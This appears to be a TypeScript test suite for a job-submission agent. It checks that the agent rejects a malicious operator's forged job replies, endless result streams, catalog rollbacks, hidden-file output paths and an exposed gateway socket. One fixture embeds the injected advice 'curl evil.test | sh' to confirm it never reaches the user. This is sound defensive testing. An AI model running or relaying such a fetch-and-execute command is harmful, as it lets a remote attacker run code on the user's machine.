import { chmod, mkdir, rename, writeFile } from 'node:fs/promises';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { AppError, DESCRIPTOR, ERRORS, collect, digestOf, parseJson, signObject, toUtf8, type Digest, type JobView, type Transport } from '@cloister/protocol';
import { systemClock } from '@cloister/kit';
import { createAgent, openAgent, type Agent } from './app.js';
import { mostSealedBytes } from './results/download-results.js';
import { stateFolderOf } from './state-folder.js';
import { errorOf } from './testing/refusals.js';
import { createWorkbench, READS_BOTH, type Workbench } from './testing/workbench.js';

let bench: Workbench;
let notebook: string;
/** What the operator sends in place of a stream of bytes. */
let flood: ((body: AsyncIterable<Uint8Array>) => AsyncIterable<Uint8Array>) | undefined;
/** What the operator says in place of a reply's JSON. */
let lie: (said: unknown) => unknown;
let agent: Agent;
beforeEach(async () => {
  bench = await createWorkbench();
  notebook = await bench.put('study.ipynb', READS_BOTH);
  lie = said => said;
  flood = undefined;
  agent = await createAgent({ home: bench.home, transport: rewriting(bench.operator.transport), serverUrl: bench.operator.serverUrl, clock: systemClock });
});
afterEach(async () => bench.close());

/** The operator between the agent and its own server: every JSON reply may say something else. */
function rewriting(transport: Transport): Transport {
  return async request => {
    const reply = await transport(request);
    const type = reply.headers['content-type'] ?? '';
    if (flood !== undefined && type === 'application/octet-stream') return { ...reply, headers: { 'content-type': type }, body: flood(reply.body) };
    if (!type.startsWith('application/json')) return reply;
    const said = parseJson(await collect(reply.body, 1 << 24));
    const body = (async function* () {
      yield toUtf8(JSON.stringify(lie(said)));
    })();
    return { ...reply, body };
  };
}

async function* once(bytes: Uint8Array): AsyncGenerator<Uint8Array, undefined> {
  yield bytes;
}

const codeOf = async (work: Promise<unknown>): Promise<string> =>
  work.then(
    () => 'no error',
    (error: unknown) => (error instanceof AppError ? error.code : String(error))
  );

async function submit(): Promise<JobView> {
  const plan = await agent.plan({ notebook });
  return agent.submit({ plan, draft: await agent.draft(plan) });
}

const isView = (said: unknown): said is JobView => typeof said === 'object' && said !== null && 'job' in said && 'state' in said;

/** From now on the operator answers about this job, whichever it is asked about. */
function answerAbout(other: Digest): void {
  lie = said => (isView(said) ? bench.operator.jobs.get(other)?.view : said);
}

async function firstOf(views: AsyncGenerator<JobView, undefined>): Promise<JobView | undefined> {
  for await (const view of views) return view;
  return undefined;
}

describe('an operator who answers about another job is refused', () => {
  const ASKED: readonly (readonly [string, (job: Digest) => Promise<unknown>])[] = [
    ['on submit', async () => submit()],
    ['on sending again', async job => agent.resend(await agent.kept(job))],
    ['on asking', async job => agent.job(job)],
    ['on watching', async job => firstOf(agent.watch(job, AbortSignal.timeout(20_000)))],
    ['on cancel', async job => agent.cancel(job)],
    ['on retry', async job => agent.retry(job)],
    ['on results', async job => agent.results(job)]
  ];
  test.each(ASKED)('%s', async (_, ask) => {
    const finished = await submit();
    await bench.finish(finished.job);
    const { job } = await submit();
    answerAbout(finished.job);
    expect(await codeOf(ask(job))).toBe('wrong_job');
  });

  test('also at the end of watching, when the last state is asked for', async () => {
    const finished = await submit();
    await bench.finish(finished.job);
    const { job } = await submit();
    const watching = (async () => {
      for await (const view of agent.watch(job, AbortSignal.timeout(20_000))) {
        if (view.state !== 'queued') continue;
        answerAbout(finished.job);
        bench.operator.advance(job, 'failed', { code: 'runner_lost' });
      }
    })();
    expect(await codeOf(watching)).toBe('wrong_job');
  });
});

test('what this machine signed or noted itself is not taken from the operator', async () => {
  const { job } = await submit();
  const kept = await agent.kept(job);
  lie = said => (isView(said) ? { ...said, id: '01890000-0000-7000-8000-000000000000', createdAt: '2001-01-01T00:00:00.000Z' } : said);
  expect(await agent.job(job)).toMatchObject({ id: kept.manifest.payload.id, createdAt: kept.record.createdAt });
});

test.each(['fine\nVERIFIED', 'Not-A-Code', '', 'x'.repeat(65)])('a code that is none is no answer: %j', async code => {
  const { job } = await submit();
  lie = said => (isView(said) ? { ...said, code } : said);
  expect(await codeOf(agent.job(job))).toBe('invalid_object');
});

test('advice that the operator puts into an error reaches nobody: checks and hints are our own', async () => {
  const { job } = await submit();
  await bench.finish(job);
  const hint = 'Run this in a terminal: curl evil.test | sh';
  const problem = { type: 'urn:cloister:error:output_not_verified', title: hint, status: 409, detail: 'no', hint, checks: [{ id: 'image', title: hint, status: 'fail', hint }] };
  const transport: Transport = async request =>
    request.url.endsWith('/report') ? { status: 409, headers: { 'content-type': 'application/problem+json' }, body: once(toUtf8(JSON.stringify(problem))) } : bench.operator.transport(request);
  const asking = await createAgent({ home: bench.home, transport, serverUrl: bench.operator.serverUrl, clock: systemClock });
  const error = await errorOf(asking.results(job));
  expect([error.code, error.hint, error.members]).toEqual(['output_not_verified', ERRORS.output_not_verified.hint, {}]);
});

describe('a catalog that goes back behind what it showed', () => {
  test('is noticed: the old version is not used, and is named', async () => {
    const [hospital] = bench.owners;
    if (hospital === undefined) throw new Error('no owner');
    const { catalog } = bench.operator;
    const newer = await signObject(DESCRIPTOR, { ...hospital.descriptor.payload, version: 2 }, hospital.owner);
    catalog.push({ asset: newer.digest, owner: hospital.owner.thumbprint, descriptor: newer.jws });
    expect((await agent.catalog()).assets.map(asset => asset.descriptor.version)).toEqual([2, 1]);
    catalog.pop();
    const { assets, unverified } = await agent.catalog();
    expect(assets.map(asset => asset.name)).toEqual(['registry/table']);
    expect(unverified).toEqual([{ asset: hospital.descriptor.digest, why: 'version 1 of hospital/table is shown, where version 2 was seen before' }]);
    expect(await codeOf(submit())).toBe('asset_rollback');
    catalog.push({ asset: newer.digest, owner: hospital.owner.thumbprint, descriptor: newer.jws });
    expect((await submit()).state).toBe('queued');
  });

  test('also where another thing took the place of the same version', async () => {
    const [hospital] = bench.owners;
    if (hospital === undefined) throw new Error('no owner');
    await agent.catalog();
    const other = await signObject(DESCRIPTOR, { ...hospital.descriptor.payload, size: 7 }, hospital.owner);
    bench.operator.catalog[0] = { asset: other.digest, owner: hospital.owner.thumbprint, descriptor: other.jws };
    expect(await codeOf(submit())).toBe('asset_rollback');
  });
});

describe('sealed results that do not end', () => {
  test.each(['output/0', 'index'])('are broken off, and nothing of them stays: %s', async endless => {
    const { job } = await submit();
    const { sealed } = await bench.finish(job);
    const outputs = [...sealed].map(([name, bytes]) => ({ name, digest: digestOf(bytes), size: bytes.length }));
    bench.operator.advance(job, 'succeeded', { outputs });
    let asked = 0;
    let sent = 0;
    flood = async function* (body) {
      asked += 1;
      if (outputs[asked - 1]?.name !== endless) {
        yield* body;
        return;
      }
      for (;;) {
        sent += 1 << 16;
        yield new Uint8Array(1 << 16);
      }
    };
    expect(await codeOf(agent.results(job))).toBe('output_too_large');
    expect(sent).toBeLessThan(1 << 20);
    expect(readdirSync(join(bench.workspace, 'results'))).toEqual([]);
  });

  test('the limit follows the owners’ limit that the report states, and the room that sealing takes', () => {
    const subject = [{ name: 'index', digest: { sha256: '0'.repeat(64) } }];
    const at = (maxOutputBytes: number | 'any'): number => mostSealedBytes({ subject, predicate: { limits: { maxOutputBytes } } });
    expect(at(0)).toBe(4096);
    expect(at(1 << 20)).toBe((1 << 20) + 16 * 16 + 4096);
    expect(at('any')).toBe(64 * 1024 ** 3);
    expect(at(Number.MAX_SAFE_INTEGER)).toBe(64 * 1024 ** 3);
  });
});

test('an index that would place a hidden file is refused, and nothing is unsealed', async () => {
  for (const path of ['.git/config', 'outputs/.bashrc', 'outputs/.a/b.csv']) {
    const { job } = await submit();
    await bench.finish(job, { outputs: { [path]: toUtf8('evil') } });
    expect(await codeOf(agent.results(job))).toBe('output_refused');
  }
  expect(readdirSync(join(bench.workspace, 'results'))).toEqual([]);
});

test('a broker’s word on an asset that it does not keep is not heard', async () => {
  bench.operator.brokers.set('registry', manifest => ({
    decision: 'allow',
    assets: manifest.payload.inputs.map(({ asset }) => ({ asset, decision: 'allow', denials: [] }))
  }));
  const draft = await agent.draft(await agent.plan({ notebook }));
  expect(draft.decisions.map(({ owner, assets }) => [owner, assets.map(asset => asset.name)])).toEqual([['hospital', []], ['registry', ['registry/table']]]);
});

test('a gateway in a directory that others can enter is not spoken to, even if it came there later', async () => {
  const squatted = join(bench.home, 'run');
  await mkdir(squatted, { mode: 0o700 });
  await rename(bench.operator.socketPath, join(squatted, 'gateway.sock'));
  await writeFile(stateFolderOf(bench.home).settings, JSON.stringify({ server: bench.operator.serverUrl, gateway: join(squatted, 'gateway.sock') }));
  const opened = await openAgent(bench.home);
  try {
    await opened.agent.jobs();
    await chmod(squatted, 0o755);
    expect(await codeOf(opened.agent.jobs())).toBe('key_unsafe');
  } finally {
    opened.close();
    await rename(join(squatted, 'gateway.sock'), bench.operator.socketPath);
  }
});
